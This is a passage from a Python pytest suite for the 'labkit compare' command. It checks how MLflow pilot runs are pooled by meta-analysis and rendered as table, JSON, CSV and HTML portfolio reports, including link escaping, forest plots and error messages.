    assert sorted(s["id"] for s in sections) == sorted(f"pilot-{p}" for p in BY_ID)
    for section in sections:
        pid = section["id"].removeprefix("pilot-")
        assert section.get_text().count(BY_ID[pid]["id"] + " moves") <= 1
    assert markdown_html("a **b** `c`\n\n- d") == "<p>a <b>b</b> <code>c</code></p><ul><li>d</li></ul>"
    assert markdown_html("stray ** star") == "<p>stray  star</p>"


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    lab_name=st.text(st.sampled_from("ab1 #?%&;'\"ü"), min_size=1, max_size=8).filter(lambda n: n.strip("."))
)
def test_a_notebook_report_link_opens_that_file_whatever_the_folders_are_called(folio, tmp_path, lab_name):
    """The report's link to a pilot's notebook report is a relative file URL: resolved against the report's
    own file as a browser resolves it, it names the notebook report, also when the report is written outside
    a lab whose folder holds ``#`` (a browser's fragment), ``?`` (a query) or ``%`` (an escape): unescaped,
    ``lab#1`` linked to ``lab``."""
    import urllib.parse
    import urllib.request
    from dataclasses import replace

    from bs4 import BeautifulSoup

    from labkit.report.page import _links

    root = tmp_path / "labs" / lab_name
    report = "results/p/runs/20260301T000000Z/report.html"
    row = replace(folio.pilots[0], run_url=None, notebook_report=report)
    page = tmp_path / "site" / "portfolio.html"
    (href,) = [
        a["href"] for a in BeautifulSoup(_links(row, str(root), page.parent), "html.parser").find_all("a")
    ]
    opened = urllib.parse.urlsplit(urllib.parse.urljoin(page.as_uri(), href))
    assert (opened.query, opened.fragment) == ("", "")
    assert Path(urllib.request.url2pathname(opened.path)) == root / report


def test_forest_plot_rows_are_every_pilot_under_its_function_then_the_pooled_diamond(folio):
    """The figure is drawn from ``forest_lines``: per group (ranked by ROI) a heading, that group's pilots
    and nothing else, then its pooled row (DerSimonian–Laird, checked above) or the one-pilot note."""
    lines = forest_lines(folio)
    blocks: dict[str, list] = {}
    for line in lines:
        if line.kind == "group":
            assert line.label not in blocks, f"group {line.label} drawn twice"
            blocks[line.label] = []
        else:
            blocks[list(blocks)[-1]].append(line)
    assert list(blocks) == [g.group for g in folio.groups]
    assert [line.item for line in lines if line.kind == "group"] == list(folio.groups)
    order = [r.pilot for r in folio.pilots]
    for group in folio.groups:
        block = blocks[group.group]
        drawn = [line.item.pilot for line in block if line.kind == "pilot"]
        assert sorted(drawn) == sorted(p["id"] for p in PILOTS if p["function"] == group.group)
        assert drawn == [pid for pid in order if pid in drawn]  # the portfolio's order, by gain
        assert all(line.item.function == group.group for line in block if line.kind == "pilot")
        tail = block[-1]
        assert [line.kind for line in block] == ["pilot"] * len(drawn) + [tail.kind]
        assert tail.item is group
        if group.pooled_k >= 2:
            assert (
                tail.kind == "pooled" and tail.label == f"pooled: {group.pooled_k} pilots, I² {group.i2:.0%}"
            )
        else:
            assert (tail.kind, tail.label) == ("note", "one pilot: not pooled")
    assert {g: len([x for x in b if x.kind == "pilot"]) for g, b in blocks.items()} == {
        "service": 3, "marketing": 2, "sales": 1,
    }  # fmt: skip
    labels = {line.item.pilot: line.label for line in lines if line.kind == "pilot"}
    assert labels["mkt-linkedin-ads"] == "mkt-linkedin-ads [b] (spec changed)"  # its best arm, its flag
    assert labels["svc-community"] == "svc-community (running)"
    assert labels["sales-warm-intro"] == "sales-warm-intro (data changed)"
    assert labels["svc-fast-reply"] == "svc-fast-reply"
    # the PNG is that structure drawn: 0.22 inch a row (plus margins) at 100 dpi
    png = forest_png(folio)
    assert png.startswith(b"\x89PNG") and len(png) > 5000
    width, height = struct.unpack(">II", png[16:24])
    assert (width, height) == (900, round(100 * (1.3 + 0.22 * len(lines))))


def test_html_lists_each_pilot_under_its_function(folio):
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(to_html(folio), "html.parser")
    tables = {h.get_text(): h.find_next_sibling("table") for h in soup.find_all("h2")}
    rows = [[td.get_text() for td in tr.find_all("td")] for tr in tables["Pilots"].find_all("tr")[1:]]
    assert {r[0]: r[1] for r in rows} == {p["id"]: p["function"] for p in PILOTS}
    groups = [tr.find("td").get_text() for tr in tables["By function"].find_all("tr")[1:]]
    assert groups == [g.group for g in folio.groups]
    # pilots appear grouped: one run of rows per function, in the groups' order
    runs = [f for i, f in enumerate(r[1] for r in rows) if i == 0 or rows[i - 1][1] != f]
    assert runs == groups


def test_table_format_shows_pilots_groups_and_flags(folio):
    text = render(folio, "table")
    for pilot in BY_ID:
        assert pilot in text
    assert "spec changed" in text and "running" in text and "data changed" in text
    assert "highest ROI" in text and "win rate" in text


# ------------------------------------------------------------------------- the command


def test_cli_formats_output_and_log_one_portfolio_run(lab, capsys, tmp_path, monkeypatch):
    from mlflow import MlflowClient

    from labkit.cli import main

    monkeypatch.setenv("MLFLOW_ENABLE_ARTIFACTS_PROGRESS_BAR", "false")
    assert main(["compare", "--lab", str(lab.root), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["by"] == "function"
    assert main(["compare", "--lab", str(lab.root), "--by", "stage", "--function", "service"]) == 0
    assert "retention" in capsys.readouterr().out
    target = tmp_path / "out" / "report.html"
    assert (
        main(["compare", "--lab", str(lab.root), "--format", "html", "--output", str(target), "--log"]) == 0
    )
    err = capsys.readouterr().err
    assert target.read_text().startswith("<!DOCTYPE html>")
    run_id = re.search(r"portfolio run (\w+)", err)[1]

    client = MlflowClient(tracking_uri=lab.tracking_uri)
    experiment = client.get_experiment_by_name(lab.spec.mlflow_experiment)
    portfolios = client.search_runs([experiment.experiment_id], "tags.`labkit.kind` = 'portfolio'")
    assert [r.info.run_id for r in portfolios] == [run_id]
    run = portfolios[0]
    assert run.info.status == "FINISHED" and "labkit.pilot" not in run.data.tags
    assert {a.path for a in client.list_artifacts(run_id)} == {"portfolio.html", "portfolio.json"}
    html_logged = Path(client.download_artifacts(run_id, "portfolio.html", str(tmp_path)))
    assert 'src="data:image/svg+xml;base64,' in html_logged.read_text()
    assert run.data.metrics["pilots"] == 6.0
    # the portfolio run never shows as a pilot
    assert {r.pilot for r in portfolio(lab).pilots} == set(BY_ID)


def cli_main(*args: str) -> tuple[int, str, str]:
    """`labkit ARGS` through ``labkit.cli.main`` in this process, from the repository folder with a user's
    environment (no lab, store or debug override): (exit code, stdout, stderr). The console script's code
    without a new interpreter's ~1.5 CPU-s of imports; an escaping exception (a traceback) fails the test,
    and WARNING log records are shown on stderr as a process without handlers would show them."""
    import contextlib
    import io
    import logging

    from labkit.cli import main

    out, err = io.StringIO(), io.StringIO()
    shown = logging.StreamHandler(err)  # under pytest its own handler would take them
    shown.setLevel(logging.WARNING)
    with pytest.MonkeyPatch.context() as patch:
        for name in ("LABKIT_LAB", "LABKIT_TRACKING_URI", "LABKIT_DEBUG"):
            patch.delenv(name, raising=False)
        patch.chdir(REPO)
        logging.getLogger().addHandler(shown)
        try:
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                code = main(list(args))
        finally:
            logging.getLogger().removeHandler(shown)
    return code, out.getvalue(), err.getvalue()


def cli_outputs(*commands: list[str]) -> list[str]:
    """`labkit ARGS...` for each argument list (``cli_main``); their stdouts, each having exited 0."""
    outs = []
    for args in commands:
        code, out, err = cli_main(*args)
        assert code == 0, (args, err)
        outs.append(out)
    return outs


def _plain(value):
    """A CSV cell as JSON would hold it: NaN (an empty cell) is None, numpy scalars are Python's."""
    if isinstance(value, float) and math.isnan(value):
        return None
    return value.item() if hasattr(value, "item") else value


def test_cli_csv_reads_back_with_pandas_equal_to_the_cli_json(lab):
    """`labkit compare --format csv` through the command line: one row per pilot, PilotRow's fields as
    columns, every cell equal to `--format json`'s pilots (floats to the last bit, text with its quotes,
    line breaks and markup intact)."""
    import pandas as pd

    csv_text, json_text = cli_outputs(
        ["compare", "--lab", str(lab.root), "--format", "csv"],
        ["compare", "--lab", str(lab.root), "--format", "json"],
    )
    frame = pd.read_csv(io.StringIO(csv_text), keep_default_na=False, na_values=[""], **round_trip(pd))
    pilots = json.loads(json_text)["pilots"]
    assert list(frame.columns) == list(PilotRow.__dataclass_fields__) == list(pilots[0])
    assert frame["pilot"].tolist() == [p["pilot"] for p in pilots]  # same rows, same order
    assert set(frame["pilot"]) == set(BY_ID)
    for i, want in enumerate(pilots):
        got = {column: _plain(frame[column].iloc[i]) for column in frame.columns}
        assert got == want, want["pilot"]
    nudge = frame.loc[frame.pilot == "mkt-email-nudge"]
    assert nudge["title"].item() == f"Nudge {SCRIPT} & co"
    assert "\nDecision: harm." in nudge["description"].item()
    assert frame.loc[frame.pilot == "mkt-linkedin-ads", "spec_changed"].item() is True


def test_compare_against_an_mlflow_server_equals_the_same_runs_in_sqlite(
    mlflow_server, tmp_path, empty_store
):
    """A real `mlflow server` on 127.0.0.1 (compare reads it through MLflow's REST client) and a sqlite store
    (read by labkit's direct SELECTs), each holding the same runs recorded by labkit's Tracker: finished
    runs, an older run, a FAILED-only pilot. `labkit compare --format json` says the same of both, but for
    the store's address and the run ids the stores gave."""
    import uuid

    experiment = (
        f"compare-server-{uuid.uuid4().hex[:8]}"  # the session's server is shared: a fresh experiment
    )
    text = LAB_YAML.replace("mlflow_experiment: tiny-pilots", f"mlflow_experiment: {experiment}")
    local = new_lab(tmp_path / "sqlite", empty_store, text)
    served = new_lab(tmp_path / "server", None, text.replace("sqlite:///results/mlflow.db", mlflow_server))
    assert served.tracking_uri == mlflow_server and local.tracking_uri.startswith("sqlite:///")
    failed = dict(
        BY_ID["sales-warm-intro"], id="pr-press", function="pr", channel="email", started="2026-03-02"
    )
    records = [record_for(p) for p in PILOTS]
    records.append(
        record_for(BY_ID["svc-fast-reply"], started=epoch("2026-01-01"), decision="harm", key="old")
    )
    records.append(record_for(failed, status="FAILED", key="f1"))
    for target in (local, served):
        tracker = Tracker(target)
        for record in records:
            tracker.record(record)
    from labkit.tracking.reader import KNOWN_REVISIONS, SqliteRuns, TrackerRuns, open_runs
    from labkit.tracking.schema import schema_head

    assert isinstance(open_runs(served), TrackerRuns)  # the local one: ::test_the_installed_mlflows_schema_…
    assert isinstance(open_runs(local), SqliteRuns if schema_head() in KNOWN_REVISIONS else TrackerRuns)

    by_function = [["compare", "--lab", str(t.root), "--format", "json"] for t in (local, served)]
    by_stage = [
        ["compare", "--lab", str(t.root), "--format", "json", "--by", "stage"] for t in (local, served)
    ]
    outs = [json.loads(out) for out in cli_outputs(*by_function, *by_stage)]
    for sqlite_view, server_view in (outs[:2], outs[2:]):
        assert sqlite_view.pop("store").startswith("sqlite:///") and server_view.pop("store") == mlflow_server
        urls = {}
        for name, view in (("sqlite", sqlite_view), ("server", server_view)):
            view.pop("generated_at")
            ids = [p.pop("run_id") for p in view["pilots"]]
            assert len(set(ids)) == len(BY_ID)
            urls[name] = dict(zip(ids, (p.pop("run_url") for p in view["pilots"]), strict=True))
        # every row links to its run on a tracking server; a local store has no address to link to
        assert set(urls["sqlite"].values()) == {None}
        for run_id, url in urls["server"].items():
            assert re.fullmatch(rf"{re.escape(mlflow_server)}/#/experiments/\d+/runs/{run_id}", url), url
        assert {p["pilot"] for p in server_view["pilots"]} == set(BY_ID)  # not the FAILED-only pilot
        assert next(p for p in server_view["pilots"] if p["pilot"] == "svc-fast-reply")["decision"] == "ship"
        assert server_view == sqlite_view
    # an experiment the server does not have is read as one without runs, not created on it
    ghost = new_lab(tmp_path / "ghost", None, served_text := text.replace(experiment, f"{experiment}-ghost"))
    assert served_text != text
    (ghost.root / "configs" / "lab.yaml").write_text(
        served_text.replace("sqlite:///results/mlflow.db", mlflow_server)
    )
    cli_errors(
        (
            ghost.root,
            rf"^no pilot runs in MLflow experiment '{experiment}-ghost' at {re.escape(mlflow_server)}",
        )
    )
    from mlflow import MlflowClient

    assert MlflowClient(mlflow_server).get_experiment_by_name(f"{experiment}-ghost") is None


def cli_errors(*cases: tuple[Path, str]) -> None:
    """`labkit compare --lab ROOT` for each (root, pattern) (``cli_main``): exit 1, one line, no traceback."""
    for root, pattern in cases:
        code, out, err = cli_main("compare", "--lab", str(root))
        assert code == 1, err
        assert out == ""
        assert "Traceback" not in err
        assert err.count("\n") == 1, err
        assert re.search(pattern, err), err


def test_cli_empty_store_and_failed_runs_only_are_one_clear_line(tmp_path, empty_store):
    missing = new_lab(tmp_path / "nostore", None)
    empty = new_lab(tmp_path / "empty", empty_store)
    failed = new_lab(tmp_path / "failed", empty_store)
    tracker = Tracker(failed)
    for i, p in enumerate(PILOTS[:2]):
        tracker.record(record_for(p, status="FAILED", key=f"f{i}"))
    tracker.record(record_for(PILOTS[0], status="KILLED", key="k"))
    cli_errors(
        (missing.root, r"^no MLflow store at sqlite:///.*mlflow\.db yet: no pilot has been run; record runs with"),
        (empty.root, r"^no pilot runs in MLflow experiment 'tiny-pilots' at sqlite:///.*: nothing to compare yet"),
        (failed.root, r"^no finished pilot run in MLflow experiment 'tiny-pilots' .*: 3 run\(s\) of 2 pilot\(s\), "
                      r"2 FAILED, 1 KILLED; compare reads finished runs only"),
    )  # fmt: skip
    assert not (missing.root / "results").exists()  # compare only reads: it created no store


# ------------------------------------------------------------------------- many runs


def bulk_record(lab, experiment_id: str, runs: list[tuple[RunRecord, dict]]) -> None:
    """Insert finished runs in one transaction through MLflow's own tables (runs, tags, params, metrics).

    The rows ``create_run`` + ``log_batch`` + ``set_terminated`` would write, at a fraction of their cost
    (~0.1-0.2 s per run through MlflowClient on sqlite, minutes for 500 runs).
    """
    import uuid

    from mlflow.store.tracking.dbmodels.models import SqlLatestMetric, SqlMetric, SqlParam, SqlRun, SqlTag
    from mlflow.store.tracking.sqlalchemy_store import SqlAlchemyStore
    from sqlalchemy import insert

    store = SqlAlchemyStore(lab.tracking_uri, (lab.results_dir / "mlruns").as_uri())
    artifact_root = store.get_experiment(experiment_id).artifact_location
    rows: dict = {SqlRun: [], SqlTag: [], SqlParam: [], SqlMetric: [], SqlLatestMetric: []}
    for record, tags in runs:
        run_id = uuid.uuid4().hex
        start, end = int(record.started_at * 1000), int(record.ended_at * 1000)
        rows[SqlRun].append(dict(
            run_uuid=run_id, name=record.run_name, source_type="UNKNOWN", source_name="", entry_point_name="",
            user_id="test", status=record.status, start_time=start, end_time=end, deleted_time=None,
            source_version="", lifecycle_stage="active", artifact_uri=f"{artifact_root}/{run_id}/artifacts",
            experiment_id=int(experiment_id),
        ))  # fmt: skip
        all_tags = (
            record.tags
            | tags
            | {"mlflow.runName": record.run_name, "mlflow.note.content": record.description}
        )
        rows[SqlTag] += [dict(key=k, value=v, run_uuid=run_id) for k, v in all_tags.items()]
        rows[SqlParam] += [dict(key=k, value=v, run_uuid=run_id) for k, v in record.params.items()]
        for table in (SqlMetric, SqlLatestMetric):
            rows[table] += [dict(key=k, value=v, timestamp=end, step=0, is_nan=False, run_uuid=run_id)
                            for k, v in record.metrics.items()]  # fmt: skip
    with store.ManagedSessionMaker() as session:
        for table, values in rows.items():
            session.execute(insert(table.__table__), values)


def test_five_hundred_runs_compare_correctly(tmp_path, empty_store):
    """100 pilots × 5 finished runs: compare reads the newest of each, pools and sums them correctly."""
    big = new_lab(tmp_path / "big", empty_store)
    tracker = Tracker(big)
    tracker.prepare()  # the experiment, with labkit's artifact location
    functions = ["sales", "marketing", "service", "pr"]
    latest: dict[str, dict] = {}
    runs = []
    began = time.perf_counter()
    for i in range(100):
        for k in range(5):
            effect = 0.002 * ((i * 7 + k * 3) % 11 - 3)
            p = dict(id=f"pilot-{i:03d}", function=functions[i % 4], channel="email", stage="retention",
                     metric="converted", direction="increase", decision=["ship", "inconclusive", "harm"][(i + k) % 3],
                     mean=0.1, arms={"treat": (effect, 0.004 + 0.001 * (i % 5))}, n=1000 + i, cost=1000 + 10 * i,
                     vpu=100, started=f"2026-0{k + 1}-1{i % 10}")  # fmt: skip
            runs.append(
                (record_for(p), {"labkit.pilot": p["id"], "labkit.latest": "true" if k == 4 else "false"})
            )
            if k == 4:
                latest[p["id"]] = p
    bulk_record(big, tracker.experiment_id, runs)
    recorded = time.perf_counter() - began
    assert len(tracker._search("tags.`labkit.pilot` LIKE '%'")) == 500

    began = time.perf_counter()
    folio = portfolio(big)
    read = time.perf_counter() - began
    html_text = to_html(folio)
    took = time.perf_counter() - began
    print(f"\n500 runs of 100 pilots: inserted in {recorded:.1f} s; portfolio in {read:.2f} s, "
          f"portfolio + HTML report in {took:.2f} s")  # fmt: skip

    assert len(folio.pilots) == 100 and sum(g.pilots for g in folio.groups) == 100
    rows = rows_of(folio)
    for pilot, p in latest.items():
        assert rows[pilot].decision == p["decision"]
        assert rows[pilot].gain == pytest.approx(expected_gain(p, "treat")[0])
        assert rows[pilot].cost == p["cost"]
    from statsmodels.stats.meta_analysis import combine_effects

    for group in folio.groups:
        members = [latest[pid] for pid in group.pilot_ids]
        effects, variances = zip(*(expected_gain(p, "treat") for p in members))
        ref = combine_effects(np.array(effects), np.array(variances), method_re="dl")
        expected = ref.mean_effect_re if ref.tau2 > 0 else ref.mean_effect_fe  # labkit truncates τ² at 0
        assert group.pooled_k == 25
        assert group.pooled_gain == pytest.approx(expected, rel=1e-6)
        assert group.value == pytest.approx(sum(results_for(p)["roi"]["value"] for p in members))
    assert all(pilot in html_text for pilot in latest)


def test_pooled_gain_weighs_pilots_by_their_logged_lift_se_not_the_asymmetric_interval():
    # lift intervals are Fieller's (asymmetric, issue 12 item 4): their width is not 2·z·se, so a pilot
    # enters the meta-analysis with lift_se² when its run logged lift_se (older runs: the width, as before)
    from statsmodels.stats.meta_analysis import combine_effects

    base = dict(
        function="service", channel="email", stage="retention", title=None, hypothesis=None, primary_metric="m",
        direction="increase", arm="t", arms=1, effect=None, effect_ci_low=None, effect_ci_high=None, lift=None,
        lift_ci_low=None, lift_ci_high=None, p_value_adjusted=None, decision="ship", exposed=None, cost=None,
        value=None, value_ci_low=None, value_ci_high=None, roi=None, roi_ci_low=None, roi_ci_high=None,
        spec_changed=False, data_changed=False, running=False, alpha=0.05, run_id="r", run_name=None,
        started_at=None, description=None,
    )  # fmt: skip
    gains, ses = [0.10, 0.30, -0.05], [0.05, 0.08, 0.04]
    rows = [PilotRow(pilot=f"p{i}", gain=g, gain_ci_low=g - s, gain_ci_high=g + 3 * s, lift_se=s, **base)
            for i, (g, s) in enumerate(zip(gains, ses))]  # fmt: skip
    group = summarize("service", rows)
    ref = combine_effects(np.array(gains), np.array(ses) ** 2, method_re="dl")
    assert group.pooled_k == 3
    assert group.pooled_gain == pytest.approx(ref.mean_effect_re, rel=1e-9)
    # an unbounded lift interval (None) does not keep a pilot with a standard error out of the pooling
    unbounded = [PilotRow(pilot="u", gain=0.2, gain_ci_low=None, gain_ci_high=None, lift_se=0.1, **base)]
    assert summarize("service", rows + unbounded).pooled_k == 4


def test_every_format_shows_the_recommendation(folio):
    """Issue #14: compare shows the decision weighed with the ROI (scale | rework | …) and the arm to scale.
    These runs predate the tag labkit.recommendation, so it is recomputed from decision and ROI by the rule."""
    from labkit.decision import recommendation_of

    rows = rows_of(folio)
    for row in rows.values():
        assert row.recommendation == recommendation_of(row.decision, row.roi)
        if row.recommendation in ("scale", "rework"):
            assert row.recommendation_arm == row.arm
    fast = rows["svc-fast-reply"]
    assert fast.decision == "ship" and fast.recommendation == ("scale" if fast.roi >= 0 else "rework")
    table, data = render(folio, "table"), json.loads(render(folio, "json"))
    assert f"→ {fast.recommendation} (fast)" in table
    shown = next(p for p in data["pilots"] if p["pilot"] == "svc-fast-reply")
    assert shown["recommendation"] == fast.recommendation
    import pandas as pd

    frame = pd.read_csv(io.StringIO(render(folio, "csv")))
    assert frame.loc[frame.pilot == "svc-fast-reply", "recommendation"].item() == fast.recommendation
    assert f'<span class="recommendation">{fast.recommendation} (fast)</span>' in render(folio, "html")
